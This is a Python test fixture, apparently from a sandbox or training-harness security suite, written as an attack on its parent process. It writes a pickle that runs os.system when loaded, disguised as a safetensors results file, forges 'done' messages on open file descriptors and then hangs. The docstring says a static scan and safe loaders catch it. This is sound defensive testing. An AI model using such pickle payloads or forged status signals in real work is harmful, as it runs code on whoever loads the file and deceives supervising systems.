"""EXPLOIT: a malicious pickle. Writes a pickle that runs code when loaded (it would create
a marker file) where the results belong, then forges `done` on the status pipe, hoping the
parent unpickles it.
Caught by: the static scan (pickle, os); at run time the parent reads results only with
safetensors and JSON, so the file is rejected as unreadable (results) and never runs."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {os.environ.get('PICKLE_MARKER', '/tmp/pickle-ran')}",))


def train(cfg, init, tokens, batches):
    with open("result.safetensors", "wb") as f:
        pickle.dump({"state_dict": Payload()}, f)
    with open("losses.json", "w") as f:
        f.write("[" + ", ".join(["2.0"] * cfg["steps"]) + "]")
    for fd in range(3, 32):
        try:
            os.write(fd, b"done\n")
        except OSError:
            pass
    while True:
        pass
